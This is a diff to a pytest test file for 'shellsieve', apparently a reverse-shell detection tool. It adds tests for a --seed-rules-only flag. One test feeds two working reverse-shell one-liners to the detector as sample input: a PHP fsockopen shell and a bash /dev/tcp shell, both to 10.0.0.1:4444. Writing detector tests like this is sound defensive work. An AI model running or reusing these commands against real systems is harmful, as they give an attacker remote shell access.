@@ -16,18 +16,17 @@ import tempfile
 import time
 from collections import defaultdict
 from pathlib import Path
-from typing import Any
 
 import msgspec
 import pytest
 
-from conftest import PATTERNS, ROOT, rule_ids
+from conftest import PATTERNS, PHP_FSOCKOPEN, ROOT, rule_ids
 from corpus import benign, lookalikes
 from corpus.payloads import FAMILIES, execs, payloads
 from format_samples import WRITERS
 from test_formats import run_lines
 from test_shellsieve_rules import PROCESS_FORMATS
-from shellsieve.cli import build
+from shellsieve.cli import build, main
 from shellsieve.compile.ruleset import Ruleset
 
 OWN = PATTERNS / "shellsieve"
@@ -106,7 +105,6 @@ class TestTable:
 
     def test_shellsieve_run_agrees(self) -> None:
         """`shellsieve run` (no --rules: the shipped rules) over the ECS payloads alerts as the in-process table."""
-        enc = msgspec.json.Encoder()
         with tempfile.TemporaryDirectory() as tmp:
             src = Path(tmp) / "in.ndjson"
             lines = [(k, line) for k, (_, ex) in enumerate(execs()) for line in WRITERS["ecs"](ex)]
@@ -119,6 +117,44 @@ class TestTable:
         hit = {k for (k, _), d in zip(lines, docs, strict=True) if rule_ids(d)}
         print(f"\nshellsieve run, ecs: recall {len(hit) / len(execs()):.3f}")
         assert len(hit) / len(execs()) >= RECALL_FORMAT
+
+
+# -- item 4: the own ruleset is the default; --seed-rules-only runs the seed rules alone ------------------
+
+SEED_ONLY_SUBCOMMANDS = [["run"], ["serve", "--listen", "tcp://127.0.0.1:0"], ["check"], ["rules"], ["explain"]]
+
+
+def _listed(capsys: pytest.CaptureFixture[str], *extra: str) -> set[str]:
+    assert main(["rules", "--json", *extra]) == 0
+    return {msgspec.json.decode(x)["id"] for x in capsys.readouterr().out.splitlines()}
+
+
+class TestSeedRulesOnly:
+    def test_the_flag_leaves_the_own_rules_out(self, capsys: pytest.CaptureFixture[str]) -> None:
+        """`rules` with no --rules lists the seed rules and the own ruleset; --seed-rules-only the seed rules."""
+        default, seeds = _listed(capsys), _listed(capsys, "--seed-rules-only")
+        assert OWN_IDS <= default and not OWN_IDS & seeds
+        assert seeds == default - OWN_IDS and PHP_FSOCKOPEN in seeds
+
+    @pytest.mark.parametrize("argv", SEED_ONLY_SUBCOMMANDS, ids=[a[0] for a in SEED_ONLY_SUBCOMMANDS])
+    def test_refused_with_rules(self, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
+        """Every subcommand taking --rules takes the flag, and refuses it beside --rules (exit 2, naming both)."""
+        with pytest.raises(SystemExit) as exc:
+            main([*argv, "--seed-rules-only", "--rules", str(OWN)])
+        assert exc.value.code == 2
+        err = capsys.readouterr().err
+        assert "--seed-rules-only" in err and "--rules" in err
+
+    def test_run_with_the_flag_alerts_seed_payloads_only(self) -> None:
+        """`shellsieve run --seed-rules-only`: the seed's PHP shell alerts, a /dev/tcp shell (own rules only)
+        does not."""
+        lines = (b"php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"sh <&3\");'\n"
+                 b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+        argv = [sys.executable, "-m", "shellsieve", "run", "--seed-rules-only", "--stats-interval", "0"]
+        proc = subprocess.run(argv, input=lines, capture_output=True, timeout=120, cwd=ROOT, check=False)
+        assert proc.returncode == 0, proc.stderr[-2000:]
+        php, dev_tcp = [rule_ids(msgspec.json.decode(x)) for x in proc.stdout.splitlines()]
+        assert PHP_FSOCKOPEN in php and not set(php) & OWN_IDS and dev_tcp == []
 
 
 # -- each rule: positive and negative command lines, as a command log holds them ----------------------------
